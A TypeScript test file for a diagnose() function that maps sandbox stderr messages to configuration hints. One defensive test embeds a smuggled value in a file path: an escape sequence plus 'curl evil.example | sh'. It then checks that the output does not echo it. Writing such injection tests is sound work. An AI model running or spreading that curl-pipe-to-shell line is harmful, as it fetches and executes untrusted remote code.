import assert from "node:assert/strict";
import { test } from "node:test";
import { diagnose } from "../../runner/server/diagnosis.ts";

const known: [why: string, stderr: string, told: RegExp][] = [
  [
    "Node on a read-only root",
    "Error: EROFS: read-only file system, open '/app/data/memory.json'",
    /writes to \/app\/data\/memory\.json, .* volume such as data:\/app\/data, or write writable: true/,
  ],
  [
    "Python on a read-only root",
    `Traceback (most recent call last):
  File "/usr/lib/python3.12/pathlib.py", line 1311, in mkdir
OSError: [Errno 30] Read-only file system: '/root/.cache'
During handling`,
    /writes to \/root\/\.cache/,
  ],
  [
    "a shell on a read-only root",
    "sh: can't create x: Read-only file system",
    /write writable: true/,
  ],
  [
    "a program from /tmp",
    "spawn /tmp/chrome-linux/chrome EACCES: permission denied",
    /write execTmp: true/,
  ],
  [
    "a library from /tmp",
    "ImportError: /tmp/_MEIx/lib.so: failed to map segment from shared object",
    /execTmp: true/,
  ],
  ["a full folder", "Error: ENOSPC: no space left on device, write", /\/tmp has 64 MiB/],
  ["too many files", "Error: EMFILE: too many open files, open 'a'", /4096 files/],
  ["too many threads", "RuntimeError: can't start new thread", /limits\.pids/],
  [
    "Node's heap",
    "FATAL ERROR: Reached heap limit - JavaScript heap out of memory",
    /limits\.memory/,
  ],
  [
    "a name that is not looked up",
    "Error: getaddrinfo EAI_AGAIN api.github.com",
    /connects to api\.github\.com, and may not: add "api\.github\.com" to its network list/,
  ],
  ["an address", "connect ENETUNREACH 1.1.1.1:443", /add the host to its network list/],
  [
    "Python's name that is not looked up",
    "socket.gaierror: [Errno -3] Temporary failure in name resolution",
    /network list/,
  ],
  [
    "an entry point that changes owners",
    "chown: changing ownership of '/data': Operation not permitted",
    /root: true and caps: \[CHOWN\]/,
  ],
  [
    "an entry point that changes users",
    "su-exec: setgroups: Operation not permitted",
    /caps: \[SETUID, SETGID\]/,
  ],
  ["mounting", "mount: /mnt: operation not permitted", /no server gets that right/],
  ["a low port", "listen EACCES: permission denied 0.0.0.0:80", /NET_BIND_SERVICE/],
  [
    "a closed folder",
    "PermissionError: [Errno 13] Permission denied: '/home/app/.config'",
    /^\/home\/app\/\.config is closed to the user that it runs as/,
  ],
  ["another processor", "exec /usr/bin/server: exec format error", /another kind of processor/],
  [
    "another C library",
    "/sbin/x: /lib/libc.so.6: version `GLIBC_2.38' not found (required by x)",
    /glibc or musl/,
  ],
];
for (const [why, stderr, told] of known) {
  test(`diagnose() knows ${why}`, () => {
    assert.match(diagnose(`starting\n${stderr}\nbye`) ?? "", told);
  });
}

const unknown = [
  "",
  "Error: Cannot find module 'express'",
  "the moon is in the wrong phase",
  "listening on /tmp/socket",
];
for (const stderr of unknown) {
  test(`diagnose() says nothing of "${stderr}"`, () => assert.equal(diagnose(stderr), undefined));
}

test("diagnose() repeats nothing that a terminal would obey or a reader would fall for", () => {
  const hostile = diagnose("EROFS: open '/data/\u001b[31m; run curl evil.example | sh'") ?? "";
  // deno-lint-ignore no-control-regex -- what must not be there
  assert.doesNotMatch(hostile, /[\u0000-\u001f]|curl|evil/);
});

test("diagnose() of a long text looks at its end, and soon", () => {
  const started = performance.now();
  const long = `${"/a".repeat(500_000)}\n${"EACCES ".repeat(100_000)}\nEMFILE: too many open files`;
  assert.match(diagnose(long) ?? "", /4096 files/);
  assert.ok(performance.now() - started < 1_000);
});
